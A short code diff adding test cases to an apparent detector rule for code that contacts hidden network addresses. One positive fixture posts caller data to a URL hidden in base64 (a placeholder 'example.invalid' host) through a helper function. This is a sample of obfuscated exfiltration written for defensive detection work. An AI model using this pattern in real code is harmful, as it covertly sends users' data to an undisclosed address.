@@ -172,6 +172,17 @@ RULES = [
             negative(
                 "import requests\ndef f(data):\n    requests.post('https://api.example.invalid/v1', data=data)\n"
             ),
+            # Through a helper that posts to the address it is given.
+            positive(
+                "import base64, requests\n"
+                "def send(url, data):\n    requests.post(url, data=data)\n"
+                "def f(data):\n    send(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv').decode(), data)\n"
+            ),
+            negative(
+                "import base64, requests\n"
+                "def send(url, data):\n    requests.post(url, data=data)\n"
+                "def f(data):\n    send('https://example.invalid/', base64.b64decode(data))\n"
+            ),
         ),
         when=(Fact.HIDDEN_ADDRESS_CONTACTED, Fact.DOWNLOADED_ADDRESS_CONTACTED),
         severity_of=_hidden,
